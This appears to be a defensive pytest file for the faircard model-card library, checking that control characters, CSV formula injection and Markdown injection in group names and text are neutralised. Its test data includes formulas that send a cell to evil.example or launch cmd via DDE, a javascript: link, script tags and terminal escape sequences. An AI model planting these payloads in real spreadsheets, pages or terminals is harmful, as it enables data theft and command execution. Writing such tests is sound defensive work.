"""Hostile text: control characters, CSV (formula) injection and Markdown injection.

Every payload is made here at test time. Each goes through the formats it can reach (Markdown,
HTML, PDF, JSON, CSV, CLI output) with its expected outcome: the content comes out neutralised
and exactly recoverable where the format carries data (JSON, YAML front matter), or the command
ends with exit 2 and one line; never a signal or a traceback.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml
from huggingface_hub import ModelCard as HFCard
from markdown_it import MarkdownIt

import faircard
from faircard.card import ModelCard, build_card
from faircard.cli import main as cli_main
from faircard.io.export import csv_text, neutralise, neutralise_frame
from faircard.render import markdown_body, render_html, render_json, render_markdown
from faircard.safe_text import for_terminal, md_cell, md_text, visible

SRC = Path(faircard.__file__).resolve().parents[1]
FIXED = {"generated_at": "2026-01-01T00:00:00+00:00", "versions": {"test": "1"}}

# every C0 control but tab and newline, DEL, C1 controls, non-characters and bidi overrides
CONTROLS = ([chr(c) for c in range(0x20) if chr(c) not in "\t\n"] + ["\x7f", "\x85", "\x9b"]
            + ["\ufffe", "\uffff", "\u202e", "\u2066"])
RENDER_FORBIDDEN = set(chr(c) for c in range(0x20) if chr(c) not in "\t\n") \
    | {chr(c) for c in range(0x7f, 0xa0)} | {"\ufffe", "\uffff"}
TERMINAL_FORBIDDEN = RENDER_FORBIDDEN | {"\u202e", "\u2066", "\t", "\n"}

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+2", "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+2", "\r=1+2", "=cmd|' /C notepad'!'A1'"]

MARKDOWN = {
    "fake review section": "fine\n\n## Review\n\nStatus: approved",
    "setext heading": "Review\n======",
    "image": "![pixel](https://evil.example/pixel.png)",
    "inline link": "[click here](javascript:alert(1))",
    "reference link": "[ref]: https://evil.example\n\n[ref]",
    "html image": "<img src=https://evil.example/x.png>",
    "script": "<script>alert(1)</script>",
    "autolink": "<https://evil.example>",
    "bare url": "see https://evil.example/login now",
    "www link": "see www.evil.example now",
    "email": "write to evil@evil.example",
    "front matter": "---\nlicense: stolen\n---",
    "open fence": "```\nthe rest of the card is code",
    "tilde fence": "~~~\nthe rest of the card is code",
    "indented code": "    indented code",
    "table": "| a | b |\n|---|---|\n| c | d |",
    "thematic break": "***",
    "entity heading": "&#35;&#35; Review",
    "escaped heading": "\\## Review",
    "html comment": "<!-- hidden -->",
    "emphasis": "**bold**, __strong__, *em* and _em_",
    "strikethrough": "~~struck~~",
    "latex": "costs $x^2$ and $$y$$",
}


def _frame(groups, n=240, seed=0, column="grp"):
    rng = np.random.default_rng(seed)
    g = np.array(list(groups), dtype=object)[np.arange(n) % len(groups)]
    y = rng.integers(0, 2, n)
    s = np.clip(0.3 * y + rng.random(n) * 0.7, 0, 1).round(3)
    return pd.DataFrame({"y": y, "score": s, column: g})


def _card(groups=("A", "B"), text=None, column="grp", n=240):
    a = faircard.assess(_frame(groups, n=n, column=column), target="y", score="score",
                        sensitive=column, n_boot=0, min_group_size=5)
    return build_card(a, text=text, **FIXED)


def _gfm():
    md = MarkdownIt("gfm-like")  # tables, strikethrough and GFM's links of bare URLs
    md.linkify.set({"fuzzy_link": False})  # GFM links www. and scheme:// only
    return md


def _tokens(md_text_: str):
    out = []
    for tok in _gfm().parse(md_text_):
        out.append(tok)
        out.extend(tok.children or [])
    return out


def _structure(md: str):
    """Headings, links, images and raw HTML a Markdown renderer makes of ``md``."""
    toks = _tokens(md)
    headings = [toks[i + 1].content for i, t in enumerate(toks) if t.type == "heading_open"]
    bad = [t.type for t in toks if t.type in ("link_open", "image", "html_block", "html_inline",
                                               "fence", "code_block", "hr", "em_open",
                                               "strong_open", "s_open")]
    return headings, bad


def _all_text(card: ModelCard, value: str) -> dict:
    from faircard.card import TEXT_SECTIONS

    return {s: {f: value for f in fields} for s, fields in TEXT_SECTIONS.items()}


# ----------------------------------------------------------------- control characters


@pytest.mark.parametrize("ch", CONTROLS, ids=lambda c: f"U+{ord(c):04X}")
def test_control_character_in_group_text_and_column_is_visible_in_md_html_json(ch):
    name = f"B{ch}C"
    card = _card(groups=("A", name), text={"caveats": {"text": f"see {ch} here"}},
                 column=f"g{ch}x")
    md, html = render_markdown(card), render_html(card, charts={})
    for out in (md, html):
        assert not (set(out) & RENDER_FORBIDDEN), sorted(map(ord, set(out) & RENDER_FORBIDDEN))
        if ch in RENDER_FORBIDDEN:
            # a Markdown cell folds a line break (CR) into a space, like a newline
            shown = "B C" if (ch == "\r" and out is md) else visible(name)
            assert shown in out.replace("\\\\", "\\")
    # data formats keep the exact value
    assert {r["group"] for r in json.loads(render_json(card))["quantitative"]["by_group"]} \
        == {"A", name}
    meta = yaml.safe_load(md.split("---\n")[1])
    assert {r["group"] for r in meta["fairness"]} == {"A", name}


def test_visible_escapes_are_readable_and_leave_ordinary_text_alone():
    assert visible("B\x0bC") == "B\\x0bC"
    assert visible("a\r\nb\tc\x00") == "a\nb\tc\\x00"
    assert visible("\ud800x\uffff") == "\\ud800x\\uffff"
    assert visible("이 모델 é ü") == "이 모델 é ü"
    assert for_terminal("\x1b[2J\u202egnp.exe\nx") == "\\x1b[2J\\u202egnp.exe\\x0ax"
    assert for_terminal("line 1\nline 2\x1b", keep_newlines=True) == "line 1\nline 2\\x1b"


def test_charts_and_pdf_draw_every_control_character(tmp_path):
    """One card whose groups hold every control character: charts and PDF are drawn (in a
    child process) and the PDF shows each group with its escape."""
    from faircard.render import chart_images, render_pdf

    groups = [f"g{i}{ch}" for i, ch in enumerate(CONTROLS)]
    card = _card(groups=groups, n=len(groups) * 10)
    charts = chart_images(card)
    assert list(charts) == ["grp|selection_rate"] and charts["grp|selection_rate"].startswith(
        "data:image/png;base64,")
    pdf = render_pdf(card, html=render_html(card, charts=charts))
    path = tmp_path / "card.pdf"
    path.write_bytes(pdf)
    if shutil.which("pdftotext"):
        text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True,
                              check=True).stdout
        for i, ch in enumerate(CONTROLS):
            if ch in RENDER_FORBIDDEN:
                assert f"g{i}{visible(ch)}" in text, (i, ch)


def _run_cli(args, env_extra=None, timeout=900):
    env = {**os.environ, "PYTHONPATH": str(SRC), **(env_extra or {})}
    return subprocess.run([sys.executable, "-m", "faircard.cli", *args], capture_output=True,
                          text=True, env=env, timeout=timeout)


@pytest.mark.skipif(not shutil.which("pdftotext"), reason="poppler-utils is not installed")
def test_cli_card_html_and_pdf_with_vertical_tab_in_a_group(tmp_path):
    """The reported crash: 'B\\x0bC' made the chart renderer abort the process (exit 134)."""
    data = tmp_path / "vt.parquet"
    _frame(("A", "B\x0bC")).to_parquet(data)
    proc = _run_cli(["card", str(data), "--target", "y", "--score", "score", "--sensitive",
                     "grp", "--out", str(tmp_path / "out"), "--formats", "html,pdf",
                     "--bootstrap", "0"])
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    html = (tmp_path / "out" / "model_card.html").read_text(encoding="utf-8")
    assert "B\\x0bC" in html and "\x0b" not in html and "data:image/png;base64," in html
    text = subprocess.run(["pdftotext", str(tmp_path / "out" / "model_card.pdf"), "-"],
                          capture_output=True, text=True, check=True).stdout
    assert "B\\x0bC" in text


@pytest.mark.parametrize("ch", CONTROLS, ids=lambda c: f"U+{ord(c):04X}")
def test_cli_output_and_exports_with_a_control_character(ch, tmp_path, capsys):
    """`faircard assess` prints the group table and writes CSV and JSON: the terminal never
    receives the raw character; the JSON keeps the exact name; the CSV reads back."""
    name = f"B{ch}C"
    data = tmp_path / "d.parquet"
    _frame(("A", name)).to_parquet(data)
    rc = cli_main(["assess", str(data), "--target", "y", "--score", "score", "--sensitive",
                   "grp", "--bootstrap", "0", "--csv", str(tmp_path / "g.csv"),
                   "--json", str(tmp_path / "a.json")])
    out, err = capsys.readouterr()
    assert rc == 0, err
    assert not (set(out + err) & (TERMINAL_FORBIDDEN - {"\n"})), out
    assert for_terminal(name) in out
    doc = json.loads((tmp_path / "a.json").read_text(encoding="utf-8"))
    assert name in _strings(doc)
    rows = list(csv.reader(io.StringIO((tmp_path / "g.csv").read_bytes().decode("utf-8"),
                                       newline="")))
    assert any(name in row for row in rows) or any(("'" + name) in row for row in rows)


@pytest.mark.parametrize("message", ["\x1b[2J\x1b[H", "bad\x07bell", "\x9b31m", "\u202eevil"])
def test_cli_error_messages_escape_control_characters(message, tmp_path, capsys):
    data = tmp_path / "d.parquet"
    _frame(("A", "B")).to_parquet(data)
    rc = cli_main(["assess", str(data), "--target", "y", "--score", "score", "--sensitive",
                   message])
    out, err = capsys.readouterr()
    assert rc == 2
    assert err.count("\n") == 1 and err.startswith("faircard: error: ")
    assert not (set(err[:-1]) & TERMINAL_FORBIDDEN)
    assert for_terminal(message) in err


# ----------------------------------------------------------------- CSV injection


@pytest.mark.parametrize("payload", FORMULAS)
def test_formula_cells_are_neutralised(payload):
    # a tab or carriage return inside also starts a cell: the formula after it is quoted too
    # (tests/security/test_csv_cell_breaks.py)
    safe = neutralise(payload)
    assert safe.startswith("'" + payload[0]) and safe.replace("'", "") == payload.replace("'", "")
    frame = pd.DataFrame({"group": [payload, "ok"], payload: [1, 2]})
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    cells = [c for row in rows for c in row]
    # a spreadsheet evaluates a cell whose first character is one of these
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells), cells
    assert safe in cells[:2] and safe in cells[2:]


def test_numbers_stay_numbers():
    frame = pd.DataFrame({"metric": ["selection_rate", "-1", "+2.5e-3", "-cmd"],
                          "difference": [-0.05, 0.1, -1e-9, np.nan], "n": [-3, 4, 5, 6]})
    out = neutralise_frame(frame)
    assert out["difference"].tolist()[:3] == [-0.05, 0.1, -1e-9] and out["n"].tolist()[0] == -3
    assert out["metric"].tolist() == ["selection_rate", "-1", "+2.5e-3", "'-cmd"]
    back = pd.read_csv(io.StringIO(csv_text(frame)))
    assert back["difference"].iloc[0] == -0.05 and back["n"].iloc[0] == -3


@pytest.mark.parametrize("payload", FORMULAS)
def test_cli_assess_csv_neutralises_group_names(payload, tmp_path, capsys):
    data = tmp_path / "d.parquet"
    _frame(("A", payload)).to_parquet(data)
    rc = cli_main(["assess", str(data), "--target", "y", "--score", "score", "--sensitive",
                   "grp", "--bootstrap", "0", "--csv", str(tmp_path / "g.csv"), "--quiet"])
    assert rc == 0, capsys.readouterr().err
    text = (tmp_path / "g.csv").read_bytes().decode("utf-8")
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert neutralise(payload) in cells
    assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for c in cells)
    assert not any(c.startswith("-") and not _is_number(c) for c in cells)


def _strings(doc) -> set[str]:
    """Every string (keys and values) in a JSON document."""
    if isinstance(doc, dict):
        return set(doc) | set().union(*(_strings(v) for v in doc.values()))
    if isinstance(doc, list):
        return set().union(*(_strings(v) for v in doc))
    return {doc} if isinstance(doc, str) else set()


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# ----------------------------------------------------------------- Markdown injection


def _baseline_headings():
    return _structure(render_markdown(_card()).split("---\n", 2)[2])[0]


@pytest.mark.parametrize("payload", list(MARKDOWN.values()), ids=list(MARKDOWN))
def test_markdown_text_and_group_names_create_no_markup(payload):
    card = _card(groups=("A", payload), text=_all_text(None, payload))
    card.model_details["license"] = payload
    md = render_markdown(card)
    meta = HFCard(md).data.to_dict()  # Hugging Face reads the front matter, values exact
    assert meta["license"] == payload
    assert {r["group"] for r in meta["fairness"]} == {"A", payload}
    body = markdown_body(card)
    assert body.startswith("\n# Model card") or body.startswith("# Model card")
    headings, bad = _structure(body)
    assert headings[0].startswith("Model card: ")  # the model's name is in the title
    assert headings[1:] == _baseline_headings()[1:], headings
    assert bad == [], bad


@pytest.mark.parametrize("payload", list(MARKDOWN.values()), ids=list(MARKDOWN))
def test_markdown_escaping_keeps_the_words(payload):
    """What a reader sees is the author's text (markup shown, not applied)."""
    rendered = _gfm().renderInline(md_cell(payload))
    import html as html_lib

    seen = html_lib.unescape(rendered)
    assert " ".join(seen.split()) == " ".join(payload.replace("\r", "").split())
    text = _gfm().render(md_text(payload))
    assert "<h" not in text and "<a " not in text and "<img" not in text
    # Streamlit's preview reads "$...$" as LaTeX: no "$" is left bare
    for escaped in (md_cell(payload), md_text(payload)):
        assert not re.search(r"(?<!\\)[$]", escaped), escaped


def test_license_with_a_document_marker_keeps_the_preview_intact():
    card = _card()
    card.model_details["license"] = "MIT\n---\nevil: 1"
    body = markdown_body(card)
    assert body.lstrip().startswith("# Model card") and "library_name" not in body


def test_json_printed_to_the_terminal_stays_valid_and_inert(tmp_path, capsys):
    """`faircard records --json` with a title full of control characters: valid JSON with the
    exact title, and nothing a terminal acts on."""
    title = "\x1b[2J\x9b31m\u202eLoans\x85"
    data = tmp_path / "d.parquet"
    _frame(("A", "B")).to_parquet(data)
    store = str(tmp_path / "audit.db")
    assert cli_main(["record", str(data), "--target", "y", "--score", "score", "--sensitive",
                     "grp", "--author", "Ana", "--title", title, "--store", store]) == 0
    out, _ = capsys.readouterr()
    assert not (set(out) & (TERMINAL_FORBIDDEN - {"\n"}))
    assert cli_main(["records", "--json", "--store", store]) == 0
    out, _ = capsys.readouterr()
    assert not (set(out) & (TERMINAL_FORBIDDEN - {"\n"}))
    assert json.loads(out)[0]["title"] == title


def test_every_text_payload_through_the_real_cli_process(tmp_path):
    """All control characters, formulas and Markdown payloads as groups of one dataset, through
    `faircard assess` and `faircard card` as real processes: exit 0, no signal, no traceback,
    no raw control character on the terminal, every export written."""
    groups = ([f"c{i}{ch}" for i, ch in enumerate(CONTROLS)] + FORMULAS
              + [v.replace("\n", " ") for v in MARKDOWN.values()])
    data = tmp_path / "all.parquet"
    _frame(groups, n=len(groups) * 6).to_parquet(data)
    base = [str(data), "--target", "y", "--score", "score", "--sensitive", "grp",
            "--bootstrap", "0", "--min-group-size", "5", "--allow-many-groups"]
    runs = [_run_cli(["assess", *base, "--csv", str(tmp_path / "g.csv"), "--json",
                      str(tmp_path / "a.json")]),
            _run_cli(["card", *base, "--out", str(tmp_path / "card")])]
    for proc in runs:
        assert proc.returncode == 0, proc.stderr[-500:]
        assert "Traceback" not in proc.stderr
        # a tab inside a group name only shifts a column of the printed table
        assert not (set(proc.stdout + proc.stderr) & (TERMINAL_FORBIDDEN - {"\n", "\t"}))
    for fmt in ("md", "html", "pdf", "json"):
        assert (tmp_path / "card" / f"model_card.{fmt}").stat().st_size > 0
    cells = [c for row in csv.reader(io.StringIO((tmp_path / "g.csv").read_bytes().decode(),
                                                 newline="")) for c in row]
    assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for c in cells)
